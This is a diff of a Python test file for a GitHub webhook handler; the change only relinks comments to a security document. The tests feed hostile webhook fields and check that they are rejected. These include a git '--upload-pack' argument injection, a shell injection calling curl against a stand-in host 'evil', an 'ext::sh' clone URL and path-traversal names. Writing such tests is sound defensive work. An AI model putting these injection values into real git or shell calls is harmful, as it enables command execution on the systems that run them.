@@ -160,7 +160,7 @@ def test_branch_deletion_is_ignored() -> None:
     (("repository", "full_name"), "../Hello-World"),
     (("repository", "full_name"), "Codertocat/Hello-World/extra"),
     (("repository", "full_name"), "-o/x"),
-    (("pull_request", "base", "ref"), "--upload-pack=touch pwned"),  # case 38
+    (("pull_request", "base", "ref"), "--upload-pack=touch pwned"),  # docs/security.md#case-38
     (("pull_request", "base", "ref"), 'x";curl${IFS}evil;#'),
     (("sender", "login"), "a b"),
 ])
@@ -191,7 +191,8 @@ def test_bad_delivery_id_is_rejected(delivery: str) -> None:
 
 
 def test_clone_urls_in_the_payload_are_never_taken() -> None:
-    """Case 39: the event carries no URL at all; clone URLs are built from config + repo."""
+    """docs/security.md#case-39: the event carries no URL at all; clone URLs are built from
+    config + repo."""
     payload = gh_payload("pull_request", "opened")
     for repo in (payload["repository"], payload["pull_request"]["head"]["repo"]):
         repo["clone_url"] = "ext::sh -c touch% pwned"
